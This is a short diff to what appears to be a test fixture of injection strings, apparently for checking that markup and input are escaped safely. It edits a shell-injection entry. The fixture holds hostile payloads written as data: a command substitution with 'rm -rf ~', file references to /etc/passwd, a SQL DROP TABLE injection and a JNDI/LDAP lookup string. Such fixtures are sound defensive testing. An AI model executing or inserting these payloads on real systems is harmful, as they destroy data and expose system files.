@@ -40,7 +40,7 @@ MARKUP = {
     "less and more": "1 < 2 > 0 && 3 <> 4",
     "markdown": "# not a heading\n* not a [list](file:///etc/passwd) `x` ![y](CANARY.png)",
     "tex": "\\input{/etc/passwd} $x_1$ % rest",
-    "shell": "$(touch /tmp/x) `id` ; rm -rf ~ | cat & ${HOME}",
+    "shell": "$(touch x) `id` ; rm -rf ~ | cat & ${HOME}",
     "sql": "'); DROP TABLE department;--",
     "format": "%s %d %n %(x)s {0} {x!r} {0.__class__}",
     "log lookup": "${jndi:ldap://example.org/x}",
